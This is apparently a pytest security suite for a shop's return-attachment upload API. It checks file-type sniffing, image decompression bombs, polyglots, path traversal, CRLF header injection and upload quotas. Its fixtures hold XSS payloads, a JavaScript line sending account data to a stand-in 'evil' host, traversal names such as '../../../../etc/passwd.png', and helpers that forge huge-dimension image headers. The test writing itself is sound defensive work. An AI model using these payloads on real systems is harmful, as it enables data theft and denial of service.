"""RMA attachments under attack: the bytes decide the type, limits per return and per customer,
decompression bombs, path traversal and odd file names, nothing ever served inline.

Images are never decoded by Sportello (no Pillow on the upload path: the type comes from the
magic bytes, the size from the header), so a bomb cannot hurt the server; it could hurt the
staff member who opens it, so an image whose header claims too many pixels is refused.
"""
import io
import re
import struct
import zlib
from email.message import Message

import pytest
from PIL import Image

from services.returns.domain.files import image_size, safe_filename, sniff
from tests.catalog.harness import assert_problem
from tests.orders.conftest import catalog  # noqa: F401  (two products)
from tests.returns.conftest import ReturnsShop

MAX_BYTES, MAX_PER_RMA, MAX_PER_CUSTOMER, MAX_BYTES_PER_CUSTOMER = 64 * 1024, 3, 4, 150_000
MAX_PIXELS = 4_000_000


def png_header(width: int, height: int) -> bytes:
    """A PNG whose IHDR claims width x height, followed by a tiny (valid) compressed stream."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(ihdr)) + b"IHDR" + ihdr + struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", len(idat)) + b"IDAT" + idat
            + struct.pack(">I", zlib.crc32(b"IDAT" + idat)) + b"\x00\x00\x00\x00IEND\xaeB`\x82")


def jpeg_header(width: int, height: int) -> bytes:
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8" + app0 + sof0 + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + bytes(32) + b"\xff\xd9"


def webp_vp8x(width: int, height: int) -> bytes:
    payload = b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", len(body)) + body


def real_image(fmt: str, size=(120, 80)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


SMALL_PNG = png_header(64, 48)


@pytest.fixture
def shop(system, client, config, catalog, tmp_path):  # noqa: F811
    config["RETURNS"] = {"storage_dir": str(tmp_path / "returns"), "attachment_max_bytes": MAX_BYTES,
                         "attachment_max_count": MAX_PER_RMA, "attachment_max_count_per_customer": MAX_PER_CUSTOMER,
                         "attachment_max_bytes_per_customer": MAX_BYTES_PER_CUSTOMER,
                         "attachment_max_image_pixels": MAX_PIXELS}
    system.start("accounts", "catalog", "orders", "returns", "gateway")
    return ReturnsShop(client, config)


@pytest.fixture
def rma(shop):
    anna, staff = shop.customer(), shop.staff()
    order = shop.deliver_order(anna, staff)
    return {"auth": anna, "staff": staff, "order": order, "number": shop.open_return(anna, order)["number"]}


def upload(client, auth, number, name, data, content_type="application/octet-stream"):
    return client.post(f"/api/v1/returns/{number}/attachments", headers=auth, files={"file": (name, data, content_type)})


def download(client, auth, number, attachment_id):
    return client.get(f"/api/v1/returns/{number}/attachments/{attachment_id}", headers=auth)


def disposition_filename(header: str) -> str:
    message = Message()
    message["Content-Disposition"] = header
    return message.get_filename()


# -- the type comes from the bytes; active content is refused or served as a download -----------------
@pytest.mark.parametrize("name, data, declared", [
    ("photo.png", b"<html><body><script>alert(document.cookie)</script></body></html>", "image/png"),
    ("photo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
    ("photo.jpg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/jpeg"),
    ("app.js", b"fetch('/api/v1/me').then(r => r.text()).then(t => new Image().src='//evil/'+t)", "text/javascript"),
    ("page.pdf", b"\xef\xbb\xbf<!DOCTYPE html><p>hi", "application/pdf"),
    ("archive.zip", b"PK\x03\x04" + bytes(40), "application/zip"),
    ("gif.gif", b"GIF89a" + bytes(40), "image/gif"),
])
def test_active_content_is_refused_whatever_the_name_or_declared_type(shop, client, rma, name, data, declared):
    assert_problem(upload(client, rma["auth"], rma["number"], name, data, declared), 422, "attachment-rejected")


def test_a_polyglot_is_stored_as_what_its_bytes_say_and_only_ever_downloaded(shop, client, rma):
    polyglot = SMALL_PNG + b"<html><script>alert(1)</script></html>"
    stored = upload(client, rma["auth"], rma["number"], "page.html", polyglot, "text/html")
    assert stored.status_code == 201, stored.text
    info = stored.json()
    assert (info["content_type"], info["filename"]) == ("image/png", "page.png")
    for response in (download(client, rma["auth"], rma["number"], info["id"]),
                     client.get(f"/api/v1/staff/returns/{rma['number']}/attachments/{info['id']}",
                                headers=rma["staff"])):
        assert response.status_code == 200 and response.content == polyglot
        assert response.headers["Content-Type"] == "image/png"
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


# -- decompression bombs --------------------------------------------------------------------------------
@pytest.mark.parametrize("data", [png_header(60000, 60000), jpeg_header(65000, 65000), webp_vp8x(16_000, 16_000),
                                  png_header(2001, 2000)], ids=["png", "jpeg", "webp", "png-just-over"])
def test_an_image_claiming_too_many_pixels_is_refused_without_being_decoded(shop, client, rma, data):
    assert len(data) < 1024  # a few hundred bytes that would take gigabytes to open
    problem = assert_problem(upload(client, rma["auth"], rma["number"], "bomb.png", data), 422, "attachment-rejected")
    assert problem["max_pixels"] == MAX_PIXELS and "pixels" in problem["detail"]


def test_an_image_within_the_pixel_limit_is_accepted(shop, client, rma):
    assert upload(client, rma["auth"], rma["number"], "ok.png", png_header(2000, 2000)).status_code == 201
    assert upload(client, rma["auth"], rma["number"], "ok.jpg", real_image("JPEG")).json()["content_type"] == "image/jpeg"


def with_junk_after_app0(jpeg: bytes) -> bytes:
    """One stray byte after the JFIF segment: decoders skip it (Pillow then reads the frame's size), a strict
    segment walk stops there and reads no size at all."""
    app0_end = 2 + 2 + int.from_bytes(jpeg[4:6], "big")
    return jpeg[:app0_end] + b"\x00" + jpeg[app0_end:]


@pytest.mark.parametrize("data", [with_junk_after_app0(jpeg_header(65000, 65000)),
                                  with_junk_after_app0(jpeg_header(64, 48)),
                                  SMALL_PNG[:12] + b"JUNK" + SMALL_PNG[16:],
                                  b"RIFF\x20\x00\x00\x00WEBPVP8Z" + bytes(24),
                                  png_header(0, 48)],
                         ids=["jpeg-bomb-behind-junk", "jpeg-behind-junk", "png-without-ihdr", "webp-unknown-chunk",
                              "png-zero-width"])
def test_an_image_whose_size_cannot_be_read_is_refused_naming_the_file(shop, client, rma, data):
    """Fail closed (REVIEW R11): an unreadable size could be any size, a bomb included."""
    problem = assert_problem(upload(client, rma["auth"], rma["number"], "photo.jpg", data), 422,
                             "attachment-rejected")
    assert "file" in problem["errors"]
    assert client.get(f"/api/v1/returns/{rma['number']}", headers=rma["auth"]).json()["attachments"] == []


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_real_photos_of_every_accepted_format_are_still_accepted(shop, client, rma, fmt):
    stored = upload(client, rma["auth"], rma["number"], f"photo.{fmt.lower()}", real_image(fmt))
    assert stored.status_code == 201, stored.text
    assert stored.json()["content_type"] == f"image/{fmt.lower()}"


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_the_header_reader_agrees_with_pillow_on_real_images(fmt):
    for size in ((1, 1), (120, 80), (3000, 17)):
        data = real_image(fmt, size)
        kind = sniff(data)
        assert kind is not None and image_size(data, kind[0]) == size
    lossless = io.BytesIO()
    Image.new("RGB", (321, 123)).save(lossless, "WEBP", lossless=True)
    assert image_size(lossless.getvalue(), "image/webp") == (321, 123)


def test_headers_that_cannot_be_read_give_no_size_and_no_crash():
    for data in (b"\xff\xd8\xff", b"\xff\xd8\xff\xe0\x00\x10JFIF", b"\xff\xd8\xff\xda\x00\x02", b"\x89PNG\r\n\x1a\n",
                 b"RIFF\x00\x00\x00\x00WEBPVP8L\x00", jpeg_header(10, 10)[:25]):
        kind = sniff(data)
        assert kind is not None and image_size(data, kind[0]) is None


# -- file names -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("name, shown", [
    ("../../../../etc/passwd.png", "passwd.png"),
    ("..\\..\\windows\\win.ini.png", None),  # how backslashes arrive depends on the client's encoder
    ("/var/lib/sportello/returns/x.png", "x.png"),
    ('a"b\r\nX-Injected: 1.png', None),  # the client percent-encodes CR LF; either way no header is injected
    ("Zürich Fotos (1).png", "Zurich-Fotos-1.png"),
    ("照片.png", "attachment.png"),
    (".htaccess", "attachment.png"),
    ("x" * 200 + ".png", "x" * 80 + ".png"),
    ("", "attachment.png"),
])
def test_odd_file_names_never_reach_the_disk_or_break_the_header(shop, client, rma, tmp_path, name, shown):
    stored = upload(client, rma["auth"], rma["number"], name, SMALL_PNG)
    assert stored.status_code == 201, stored.text
    info = stored.json()
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,79}\.png", info["filename"]), info["filename"]
    assert info["filename"] == (shown or info["filename"])
    response = download(client, rma["auth"], rma["number"], info["id"])
    assert "X-Injected" not in response.headers
    assert disposition_filename(response.headers["Content-Disposition"]) == info["filename"]
    root = (tmp_path / "returns").resolve()
    files = [p for p in root.rglob("*") if p.is_file()]
    assert len(files) == 1 and files[0].name.endswith(".png") and len(files[0].stem) == 32  # a generated uuid
    assert not any(p for p in tmp_path.rglob("passwd*")) and not (tmp_path / "etc").exists()


def test_an_absurdly_long_file_name_is_refused_naming_the_field(shop, client, rma):
    problem = assert_problem(upload(client, rma["auth"], rma["number"], "x" * 500 + ".png", SMALL_PNG), 422,
                             "validation-failed")
    assert "filename" in problem["errors"]


def test_safe_filename_reduces_anything_to_harmless_characters():
    assert safe_filename("a/b\\c<script>.svg", "png") == "c-script.png"
    assert safe_filename(None, "pdf") == "attachment.pdf"
    assert safe_filename("\x00\x1f..\x7f", "jpg") == "attachment.jpg"


# -- limits per return and per customer -----------------------------------------------------------------
def test_files_are_limited_per_return_and_per_customer_over_all_returns(shop, client, rma):
    anna, order, first = rma["auth"], rma["order"], rma["number"]
    second = shop.open_return(anna, order, lines=((2, 1),))["number"]
    assert_problem(upload(client, anna, first, "big.png", SMALL_PNG + bytes(MAX_BYTES)), 422, "attachment-rejected")
    for i in range(MAX_PER_RMA):
        assert upload(client, anna, first, f"{i}.png", SMALL_PNG).status_code == 201
    assert_problem(upload(client, anna, first, "more.png", SMALL_PNG), 422, "too-many-attachments")
    assert upload(client, anna, second, "4.png", SMALL_PNG).status_code == 201  # 4 of 4 for the customer
    refused = upload(client, anna, second, "5.png", SMALL_PNG)
    problem = assert_problem(refused, 429, "attachment-quota-exceeded")
    assert problem["max_count"] == MAX_PER_CUSTOMER
    assert 0 < int(refused.headers["Retry-After"]) <= 24 * 3600 + 1
    assert len(client.get(f"/api/v1/returns/{second}", headers=anna).json()["attachments"]) == 1


def test_bytes_are_limited_per_customer(shop, client, rma):
    anna, order, first = rma["auth"], rma["order"], rma["number"]
    second = shop.open_return(anna, order, lines=((2, 1),))["number"]
    chunk = SMALL_PNG + bytes(60_000)
    assert upload(client, anna, first, "a.png", chunk).status_code == 201
    assert upload(client, anna, second, "b.png", chunk).status_code == 201
    problem = assert_problem(upload(client, anna, second, "c.png", chunk), 429, "attachment-quota-exceeded")
    assert problem["max_bytes"] == MAX_BYTES_PER_CUSTOMER
    assert upload(client, anna, second, "small.png", SMALL_PNG).status_code == 201  # still under the bytes
